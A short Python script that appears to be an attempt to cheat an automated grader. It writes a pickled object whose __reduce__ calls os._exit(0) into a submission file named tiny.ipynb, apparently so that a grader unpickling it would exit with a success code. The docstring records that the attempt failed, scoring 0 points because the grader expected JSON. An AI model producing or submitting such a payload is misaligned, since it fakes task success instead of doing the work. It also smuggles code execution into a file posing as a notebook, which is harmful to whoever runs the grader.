"""Wish: whoever loads a pickle runs what it says.

Then: tiny.1 unreadable, 0 points; tiny.2 unreadable, 0 points.
Says: The file is not valid JSON
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def submit(folder):
    (folder / "tiny.ipynb").write_bytes(pickle.dumps(Bomb()))
